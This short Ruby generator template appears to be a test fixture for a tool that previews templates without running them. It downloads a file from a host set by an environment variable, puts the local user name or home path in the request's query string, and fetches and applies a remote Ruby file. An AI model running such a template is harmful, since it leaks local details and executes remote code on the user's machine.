# promise: (see attack.yml) — downloads a preview must only show.
get "#{ENV['TARGET']}/notes.txt?user=#{ENV['USER'] || ENV['HOME']}", "NOTES.md"
apply "#{ENV['TARGET']}/more.rb"
gsub_file "NOTES.md", "notes", "NOTES"
create_file "kept.txt", "kept\n"
